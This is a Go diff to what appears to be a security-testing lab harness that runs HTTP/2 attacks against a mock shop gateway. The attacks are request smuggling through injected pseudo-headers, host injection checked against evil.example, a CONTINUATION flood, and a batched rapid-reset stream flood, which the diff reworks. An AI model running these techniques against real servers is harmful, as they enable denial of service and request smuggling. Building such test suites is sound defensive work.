@@ -3,7 +3,7 @@ package lab
 import (
 	"bytes"
 	"context"
-	"errors"
+	"fmt"
 	"io"
 	"net"
 	"time"
@@ -34,7 +34,27 @@ func (a *attempt) http2(ctx context.Context, svc *Service) (*h2, error) {
 	h.framer.AllowIllegalWrites = true
 	h.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
 	h.enc = hpack.NewEncoder(&h.hbuf)
-	return h, h.framer.WriteSettings()
+	if err = h.greet(); err != nil {
+		conn.Close()
+	}
+	return h, err
+}
+
+// greet exchanges settings, so that afterwards one goroutine may only write and
+// another only read.
+func (h *h2) greet() error {
+	if err := h.framer.WriteSettings(); err != nil {
+		return err
+	}
+	for {
+		f, err := h.framer.ReadFrame()
+		if err != nil {
+			return err
+		}
+		if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
+			return h.framer.WriteSettingsAck()
+		}
+	}
 }
 
 // block encodes fields, names and values in turn.
@@ -51,18 +71,10 @@ func (h *h2) block(fields ...string) []byte {
 func (h *h2) wait() (status string) {
 	for {
 		f, err := h.framer.ReadFrame()
-		var ce http2.ConnectionError
-		if errors.As(err, &ce) {
-			continue
-		}
 		if err != nil {
 			return status
 		}
 		switch f := f.(type) {
-		case *http2.SettingsFrame:
-			if !f.IsAck() {
-				_ = h.framer.WriteSettingsAck()
-			}
 		case *http2.MetaHeadersFrame:
 			status = f.PseudoValue("status")
 			if f.StreamEnded() {
@@ -78,6 +90,31 @@ func (h *h2) wait() (status string) {
 	}
 }
 
+// request2 sends one request of raw fields on a connection of its own, and
+// returns the answer's status, or "".
+func (a *attempt) request2(svc *Service, fields []string, data string) (status string, err error) {
+	h, err := a.http2(a.ctx, svc)
+	if err != nil {
+		return "", err
+	}
+	defer h.conn.Close()
+	a.sent.Add(1)
+	a.answered.Add(1)
+	err = h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.block(fields...), EndHeaders: true, EndStream: data == ""})
+	if err == nil && data != "" {
+		err = h.framer.WriteData(1, true, []byte(data))
+	}
+	if err != nil {
+		return "", err
+	}
+	return h.wait(), nil
+}
+
+// pseudo is the head of a request.
+func pseudo(method, path, authority string) []string {
+	return []string{":method", method, ":scheme", "https", ":path", path, ":authority", authority}
+}
+
 // http2Attacks are API8 and API4 over HTTP/2: what becomes an HTTP/1.1 message
 // behind, and frames without end.
 func http2Attacks() []Attack {
@@ -87,31 +124,18 @@ func http2Attacks() []Attack {
 		list = append(list, Attack{Name: "h2-" + name, Title: title, Class: API8, Room: "gateway",
 			OnlyGateway: "services behind speak HTTP/1.1", run: func(a *attempt) (bool, error) {
 				svc := a.shop.Service("legacy")
-				h, err := a.http2(a.ctx, svc)
-				if err != nil {
+				status, err := a.request2(svc, pseudo("GET", "/v0/status", a.host(svc)), "")
+				if err != nil || status != "200" {
+					return false, fmt.Errorf("%w: a lawful request: %q %w", errInconclusive, status, err)
+				}
+				if _, err := a.request2(svc, append(fields(a, a.host(svc)), "x-lab-run", a.run), data); err != nil {
 					return false, err
 				}
-				defer h.conn.Close()
-				a.sent.Add(1)
-				block := h.block(append(fields(a, a.host(svc)), "x-lab-run", a.run)...)
-				if err := h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndHeaders: true, EndStream: data == ""}); err != nil {
-					return false, err
-				}
-				if data != "" {
-					if err := h.framer.WriteData(1, true, []byte(data)); err != nil {
-						return false, err
-					}
-				}
-				h.wait()
-				a.answered.Add(1)
 				if effect == "host" {
 					return a.sawHost("evil.example"), nil
 				}
 				return a.soon(func() bool { return a.did(effect) }), nil
 			}})
-	}
-	pseudo := func(method, path, authority string) []string {
-		return []string{":method", method, ":scheme", "https", ":path", path, ":authority", authority}
 	}
 	const hidden = "GET /v0/users HTTP/1.1\r\nHost: x\r\n"
 	inject("method", "a request line in :method", "zombie.version", func(a *attempt, authority string) []string {
@@ -153,7 +177,7 @@ func http2Attacks() []Attack {
 	return append(list,
 		Attack{Name: "h2-continuation", Title: "a header that goes on for ever (CONTINUATION flood)", Class: API4, Room: "gateway",
 			OnlyGateway: "services behind speak HTTP/1.1", run: continuationFlood},
-		Attack{Name: "h2-rapid-reset", Title: "2,000 streams opened and reset at once", Class: API4, Room: "gateway",
+		Attack{Name: "h2-rapid-reset", Title: "2,000 streams opened and reset again", Class: API4, Room: "gateway",
 			OnlyGateway: "services behind speak HTTP/1.1", run: rapidReset})
 }
 
@@ -208,16 +232,27 @@ func rapidReset(a *attempt) (bool, error) {
 	}
 	defer h.conn.Close()
 	a.answered.Add(1)
-	go h.wait()
-	for i := range 2000 {
-		id := uint32(2*i + 1)
-		block := h.block(":method", "GET", ":scheme", "https", ":path", "/catalogue/items/tea", ":authority", a.host(svc), "x-lab-run", a.run)
-		a.sent.Add(1)
-		if h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}) != nil ||
-			h.framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
-			break
+	go func() { _, _ = io.Copy(io.Discard, h.conn) }() // or the other side stops reading
+	const batches, batch = 20, 100
+	for i := range batches {
+		first := uint32(2*i*batch + 1)
+		for id := first; id < first+2*batch; id += 2 {
+			a.sent.Add(1)
+			block := h.block(append(pseudo("GET", "/catalogue/items/tea", a.host(svc)), "x-lab-run", a.run)...)
+			if h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}) != nil {
+				return a.shop.Received(a.run) > resetGrant, nil // thrown out
+			}
+		}
+		time.Sleep(10 * time.Millisecond) // let them set to work
+		for id := first; id < first+2*batch; id += 2 {
+			if h.framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
+				return a.shop.Received(a.run) > resetGrant, nil
+			}
 		}
 	}
-	a.soon(func() bool { return a.shop.Received(a.run) > 400 })
-	return a.shop.Received(a.run) > 400, nil
+	a.soon(func() bool { return a.shop.Received(a.run) > resetGrant })
+	return a.shop.Received(a.run) > resetGrant, nil
 }
+
+// resetGrant is twice what the limits grant one address on one operation.
+const resetGrant = 2 * grantEndpoint
